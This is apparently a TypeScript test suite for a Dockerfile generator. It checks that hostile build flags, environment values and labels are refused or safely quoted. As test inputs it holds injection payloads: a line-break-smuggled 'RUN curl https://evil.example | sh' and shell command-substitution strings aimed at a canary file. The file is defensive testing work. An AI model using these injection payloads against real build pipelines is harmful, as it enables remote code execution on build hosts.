/**
 * Hostile values. A layer's free-form strings (build flags, environment values, labels, custom
 * commands) reach Dockerfile lines; a line break in any of them is refused (by the schema or by
 * generation, which then writes nothing), and everything else is quoted so that it stays data:
 * the generated Dockerfile has exactly the instructions of the template, and bash reads each word
 * back as the value the layer wrote.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { formatDiagnostic, loadCatalog } from '../../packages/catalog/src/index.js';
import { run } from '../../packages/catalog/src/cli/run.js';
import { generate, generationProblems, render } from '../../packages/catalog/src/generate/index.js';
import { dockerPair, dockerValue, dockerWord, shellWord } from '../../packages/catalog/src/generate/quote.js';
import { cleanFixtures } from './support.js';
import { cleanCopies, fixtureWithTemplates, lintDockerfile, requireFromCatalog } from './generate-support.js';
import type * as DockerfileAst from 'dockerfile-ast';

const { DockerfileParser } = requireFromCatalog('dockerfile-ast') as typeof DockerfileAst;

test.after(() => {
  cleanCopies();
  cleanFixtures();
});

const canaryDir = mkdtempSync(join(tmpdir(), 'lamina-canary-'));
const CANARY = join(canaryDir, 'pwned');
test.after(() => rmSync(canaryDir, { recursive: true, force: true }));

/** The `openssl` layer of the `good` fixture with `build` and `labels` replaced. */
function hostileCatalog(build: string, extra = ''): string {
  const root = fixtureWithTemplates('good');
  writeFileSync(
    join(root, 'layers/openssl/build_directives.ncl'),
    `let c = import "../../schemas/contracts.ncl" in
{
  name = "openssl",
  summary = "openssl library",
  source = {
    url = "https://example.org/openssl-3.5.7.tar.gz",
    version = "3.5.7",
    sha256 = "0000000000000000000000000000000000000000000000000000000000000000",
    provenance = [{ method = 'published_checksum, reference = "test fixture" }],
  },
  build = ${build},
  install = { prefix = "/opt/lamina/openssl" },
  serves = ["openssl-sys"],
  ${extra}
} | c.NativeDep
`,
  );
  return root;
}

const BENIGN = `{ system = 'autotools, flags = ["--x"], env = { CFLAGS = "-O2" } }`;

/** Keywords of the generated Dockerfile's instructions, in order. */
function keywords(text: string): string[] {
  return DockerfileParser.parse(text)
    .getInstructions()
    .map((i) => i.getKeyword());
}

async function dockerfileOf(root: string): Promise<string> {
  const catalog = loadCatalog(root);
  assert.ok(catalog.ok, catalog.diagnostics.map(formatDiagnostic).join('\n'));
  const rendered = await render(catalog, { root });
  assert.ok(rendered.ok, rendered.ok ? '' : rendered.diagnostics.map(formatDiagnostic).join('\n'));
  return rendered.ok ? rendered.files.get('generated/dockerfiles/openssl.Dockerfile')! : '';
}

/** Either the schema refuses the value, or generation does; never is a file written. */
async function assertRefused(root: string, field: RegExp): Promise<string> {
  const catalog = loadCatalog(root);
  let messages: string;
  if (!catalog.ok) {
    messages = catalog.diagnostics.map(formatDiagnostic).join('\n');
  } else {
    // The pre-commit gate refuses exactly what generation refuses, at the same place.
    const validated = generationProblems(catalog, root).map(formatDiagnostic).join('\n');
    const report = await generate(catalog, { root, check: false });
    assert.equal(report.written, [], 'nothing is written when a value is refused');
    assert.not.ok(existsSync(join(root, 'generated')), 'no generated/ folder was created');
    messages = report.diagnostics.map(formatDiagnostic).join('\n');
    assert.is(validated, messages, 'lamina validate reports what gen refuses');
  }
  assert.match(messages, field);
  return messages;
}

test('a build flag with a line break and an instruction after it is refused', async () => {
  const msg = await assertRefused(hostileCatalog(`{ system = 'autotools, flags = ["--x\\nRUN curl https://evil.example | sh"] }`), /build\.flags\[0\]/);
  assert.match(msg, /layers\/openssl\/build_directives\.ncl/);
  assert.match(msg, /line feed/);
});

test('an environment value with a carriage return, a label with a line break, a summary with a tab: refused', async () => {
  await assertRefused(hostileCatalog(`{ system = 'autotools, env = { CFLAGS = "-O2\\rENTRYPOINT [\\"sh\\"]" } }`), /build\.env\.CFLAGS/);
  await assertRefused(hostileCatalog(BENIGN, `labels = { "x" = "a\\nCMD [\\"sh\\"]" },`), /labels\.x/);
});

test('a custom command ending in a backslash (it would swallow the next instruction) is refused', async () => {
  await assertRefused(hostileCatalog(`{ system = 'custom, commands = ["make \\\\"] }`), /build\.commands\[0\]/);
});

test('labels cannot override the labels lamina sets', async () => {
  await assertRefused(hostileCatalog(BENIGN, `labels = { "online.librecloud.lamina.fingerprint" = "forged" },`), /set by lamina/);
});

test('shell metacharacters in flags and $(…) in environment values stay data', async () => {
  const flags = [`'; touch ${CANARY}; echo '`, `$(touch ${CANARY})`, '`touch ' + CANARY + '`', '--prefix=/x && touch /y', 'a\\', '#not-a-comment', '<<EOF'];
  const env = { CFLAGS: `$(touch ${CANARY}) \`id\` "q" \\ $HOME \${PATH}`, LDFLAGS: '-Wl,-rpath,$ORIGIN/../lib' };
  const root = hostileCatalog(
    `{ system = 'autotools, flags = ${JSON.stringify(flags)}, env = { CFLAGS = ${JSON.stringify(env.CFLAGS)}, LDFLAGS = ${JSON.stringify(env.LDFLAGS)} } }`,
    `labels = { "x\\"y z" = "v $HOME \\"q\\"" },`,
  );
  const text = await dockerfileOf(root);
  const benign = await dockerfileOf(hostileCatalog(BENIGN, `labels = { "k" = "v" },`));
  // Same instructions as a benign layer: nothing was injected.
  assert.equal(keywords(text), keywords(benign));
  const catalog = loadCatalog(root);
  const layer = catalog.layer('openssl')!;
  assert.equal(lintDockerfile(text, { layer: 'openssl', class: 'native-dep', fingerprint: layer.fingerprint, prefix: '/opt/lamina/openssl' }), []);

  // The configure line holds each flag as one quoted word; bash reads them back exactly and runs nothing.
  const configureLine = text.split('\n').find((l) => l.startsWith('RUN ./configure '))!;
  assert.ok(configureLine.endsWith(' \\'), 'the configure command continues on the next line');
  const firstCommand = configureLine.slice('RUN ./configure'.length, -2).replace(/^/, "printf '%s\\n'");
  const words = execFileSync('bash', ['-o', 'pipefail', '-c', firstCommand], { encoding: 'utf8' }).split('\n').slice(0, -1);
  assert.equal(words, ['--prefix=/opt/lamina/openssl', ...flags]);
  assert.not.ok(existsSync(CANARY), 'a flag was executed');

  // ENV and LABEL values are literal for the Dockerfile parser: no $-expansion, quotes kept.
  for (const [k, v] of Object.entries(env)) assert.ok(text.includes(dockerPair(k, v)), `ENV ${k}`);
  assert.ok(text.includes(`${dockerValue('x"y z')}=${dockerValue('v $HOME "q"')}`));
});

test('shellWord: bash reads back every value exactly, and never executes it', () => {
  const values = [
    'plain',
    '',
    "it's",
    `'; touch ${CANARY}; '`,
    `$(touch ${CANARY})`,
    '`touch ' + CANARY + '`',
    '$HOME ${PATH} $((1+1))',
    'a b\tc'.replace('\t', ' '),
    '!event',
    '*?[glob]',
    '~user',
    'back\\slash\\',
    '"double"',
    'ünïcödé ✓',
    '#hash',
    '<<EOF',
  ];
  for (const v of values) {
    const out = execFileSync('bash', ['-o', 'pipefail', '-c', `printf '%s' ${shellWord(v)}`], { encoding: 'utf8', cwd: canaryDir });
    assert.is(out, v, `round trip of ${JSON.stringify(v)} via ${shellWord(v)}`);
  }
  assert.not.ok(existsSync(CANARY));
  assert.throws(() => shellWord('a\nb'), /line feed/);
  assert.throws(() => dockerValue('a\rb'), /carriage return/);
});

test('dockerWord (the snippets of consume and suggest): bare only for a plain word, a $ is never left to expand', () => {
  assert.is(dockerWord('/usr/local/cargo'), '/usr/local/cargo');
  assert.is(dockerWord('$HOME/.cargo'), '"\\$HOME/.cargo"');
  assert.is(dockerWord('${PATH}:/x'), '"\\${PATH}:/x"');
  assert.is(dockerWord('a b'), '"a b"');
});

test("dockerValue: one ENV property per value, read back exactly under BuildKit's quoting rules", () => {
  const values = ['$HOME', '${PATH:-x}', 'say "hi"', 'back\\slash', "it's", '$(id)', 'trailing\\'];
  const lines = values.map((v, i) => `ENV V${i}=${dockerValue(v)}`);
  const envs = DockerfileParser.parse(`FROM scratch\n${lines.join('\n')}\n`)
    .getInstructions()
    .filter((i) => i.getKeyword() === 'ENV') as unknown as { getProperties(): { getName(): string }[] }[];
  assert.is(envs.length, values.length);
  envs.forEach((ins, i) =>
    assert.equal(
      ins.getProperties().map((p) => p.getName()),
      [`V${i}`],
    ),
  );
  // BuildKit's lexer inside double quotes: `\"`, `\$` and `\\` are escapes, `$` starts a
  // variable, every other character is literal. An unescaped `$` or `"` would be a bug.
  values.forEach((v, i) => {
    const quoted = lines[i]!.slice(`ENV V${i}=`.length);
    assert.ok(quoted.startsWith('"') && quoted.endsWith('"'));
    const body = quoted.slice(1, -1);
    assert.not.match(body.replace(/\\./g, ''), /["$]/, `unescaped character in ${quoted}`);
    assert.is(body.replace(/\\(["$\\])/g, '$1'), v);
  });
});

test('`lamina gen` prints the refusal as file:line:col: message [generate/unsafe-value], exits 1 and writes nothing', async () => {
  const root = hostileCatalog(`{ system = 'autotools, flags = ["--x\\nRUN curl https://evil.example | sh"] }`);
  let stdout = '';
  let stderr = '';
  const stream = (append: (s: string) => void) => ({ isTTY: false, write: (c: string) => (append(String(c)), true) }) as unknown as NodeJS.WritableStream;
  const code = await run(['gen'], { stdout: stream((s) => (stdout += s)), stderr: stream((s) => (stderr += s)), env: {} }, root);
  assert.is(code, 1);
  assert.match(stderr, /^layers\/openssl\/build_directives\.ncl:\d+:\d+: build\.flags\[0\]: contains a line feed.*\[generate\/unsafe-value\]$/m);
  assert.not.match(stdout, /wrote/);
  assert.not.ok(existsSync(join(root, 'generated')));
});

test('no file anywhere received the refused instruction', async () => {
  const root = hostileCatalog(`{ system = 'autotools, flags = ["--x\\nRUN curl https://evil.example | sh"] }`);
  const catalog = loadCatalog(root);
  if (catalog.ok) await generate(catalog, { root, check: false });
  const bakeExists = existsSync(join(root, 'generated/docker-bake.json'));
  assert.not.ok(bakeExists && readFileSync(join(root, 'generated/docker-bake.json'), 'utf8').includes('evil'));
});

test.run();
